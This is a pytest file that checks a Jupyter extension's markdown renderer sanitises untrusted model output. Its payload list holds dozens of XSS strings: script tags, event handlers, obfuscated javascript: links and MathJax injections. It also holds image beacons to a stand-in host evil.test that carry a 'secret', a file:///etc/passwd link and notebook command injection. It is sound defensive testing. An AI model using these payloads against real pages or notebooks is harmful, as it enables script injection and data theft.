"""Whatever a model says, only known tags, attributes and addresses leave the renderer."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aitunnel_jupyter.rendering.markdown import to_html

GIF = "R0lGODlhAQABAAAAACw="
PAYLOADS = [
    # raw HTML
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<svg/onload=alert(1)>",
    "<style>@import 'http://evil.test'</style>",
    "<base href=http://evil.test>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<a href=x data-commandlinker-command=notebook:run-all>x</a>",
    "<form action=http://evil.test><input></form>",
    "<details open ontoggle=alert(1)>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<div id=main-panel style=position:fixed>",
    "text <b onmouseover=alert(1)>bold</b>",
    "</div></div><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "<x<script>>alert(1)</x>",
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](command:jupyter.runAll)",
    "[x](vscode://evil)",
    "[x](/api/contents)",
    "[x](../lab/tree)",
    "[x](//evil.test)",
    "[x](#anchor)",
    "[x](http:evil)",
    "[x](https:/\\evil)",
    "[x](blob:https://a/b)",
    "[x](about:blank)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: https://a.test \"t' onclick='alert(1)\"",
    '[x](https://a.test "onclick=alert(1) \\" onmouseover=alert(1)")',
    '[x](https://a.test/"onclick="alert(1))',
    "[x](https://a.test/'><script>alert(1)</script>)",
    "[x](<https://a.test/ onclick=alert(1)>)",
    "https://a.test/\"onmouseover=\"alert(1)",
    "https://a.test/<script>alert(1)</script>",
    "xjavascript://https://a.test",
    "[a [b](https://b.test) c](https://c.test)",
    "[![x](https://a.test/i.png)](https://b.test)",
    "[https://a.test](https://b.test)",
    # images
    "![x](https://evil.test/pixel.png?secret)",
    "![x](http://evil.test/p.gif 'title')",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](data:image/png;base64,PHNjcmlwdD4=)",
    "![x](data:image/gif,GIF89a)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    f'![" onerror="alert(1)](data:image/gif;base64,{GIF})',
    f"![x](data:image/gif;base64,{GIF}\"onerror=alert)",
    f"[x](data:image/gif;base64,{GIF})",
    "![a![b![c](https://a.test)](https://b.test)](https://c.test)",
    "![*x*<script>](https://a.test)",
    # code
    "```python onload=alert(1)\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```../../etc/passwd\nx\n```",
    "```" + "a" * 5000 + "\nx\n```",
    "```python\n'</tt><script>'\n```",
    "`</code><script>alert(1)</script>`",
    "    </pre><script>alert(1)</script>",
    # formulas
    r"\(\href{javascript:alert(1)}{x}\)",
    r"$\style{background:url(http://evil.test)}{x}$",
    r"\[\class{jp-Dialog}{x}\]",
    r"$$\cssId{main}{x}$$",
    r"\(</span><script>alert(1)</script>\)",
    r"$$</span><img src=x onerror=alert(1)>$$",
    r"\(\require{html}x\)",
    r"$\unicode[http://evil.test]{x61}$",
    r"\(\bbox[background:url(http://evil.test)]{x}\)",
    r"\[ a \) \href{x}{y} \]",
    r"\(\def\x{y}\)",
    # characters
    "a\u202eb\u2066c",
    "a\x1b[31mb\x00c\x9bd",
    "| a | b |\n|:-:|--\" onclick=x|\n| 1 | 2 |",
    "999999999. x",
    "- [x] <script>",
    "\u2028<script>\u2029",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\\<script>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_but_known_tags_attributes_and_addresses_leaves(payload, safe):
    safe(to_html(payload))
    safe(to_html(f"> - {payload}"))
    safe(to_html(f"| a |\n|---|\n| {payload} |"))


@given(st.text(alphabet="[]()<>!*_`~$\\|-#:&;\"'/= \n\tabx1.👍ж\x1b\u202e", max_size=120))
def test_no_mixture_of_markers_leaves_anything_else(safe, source):
    safe(to_html(source))


PARTS = [
    "[", "](", ")", "![", "javascript:", "https://a.test/", "data:image/png;base64,iVBORw0KGgo=", "`", "```", "\n", "\n\n", "> ",
    "- ", "1. ", "$", "$$", "\\(", "\\)", "\\[", "\\]", "<script>", "</span>", '"', "'", " onclick=x ", "|", "|---|", "&#106;", "**",
    "_", "~~", "\\", "x", "\\href{", "}", "    ", "[1]: ", "[1]", "<https://b.test>", "=", "---",
]  # fmt: skip


@given(st.lists(st.sampled_from(PARTS), max_size=40).map("".join))
def test_no_mixture_of_payload_parts_leaves_anything_else(safe, source):
    safe(to_html(source))


@pytest.mark.parametrize(
    "unit", [">", "[", "![", "*", "(", "`", "$", "_", "~", "<", "&", "\\", "|", "> - ", "[a](", "\\(", "\\[", "1. ", "**a ", "a**", "*a _b "]
)  # fmt: skip
def test_deep_or_endless_markers_do_not_crash(unit, safe):
    # What is quadratic is not noticed in 10 000 characters, but what is more than that never ends.
    safe(to_html((unit * 10_000)[:10_000]))


def test_text_below_the_deepest_level_is_shown_not_dropped(safe):
    assert "treasure" in safe(to_html("> " * 300 + "treasure"))
    assert "treasure" in safe(to_html("\n".join("  " * depth + "- x" for depth in range(100)) + " treasure"))


def test_a_table_of_empty_cells_is_shown_as_it_was_written(safe):
    bomb = "|a" * 190 + "|\n" + "|-" * 190 + "|\n" + "x\n" * 5_000
    html = to_html(bomb)
    assert "<td>" not in html
    assert len(html) < 4 * len(bomb)
    assert safe(html).count("x") == 5_000


@pytest.mark.fallback
def test_a_failure_of_the_parser_shows_the_text(monkeypatch):
    def fail():
        raise RecursionError

    monkeypatch.setattr("aitunnel_jupyter.rendering.markdown.parser", fail)
    assert to_html("a <b> & c") == "<pre>a &lt;b&gt; &amp; c</pre>"
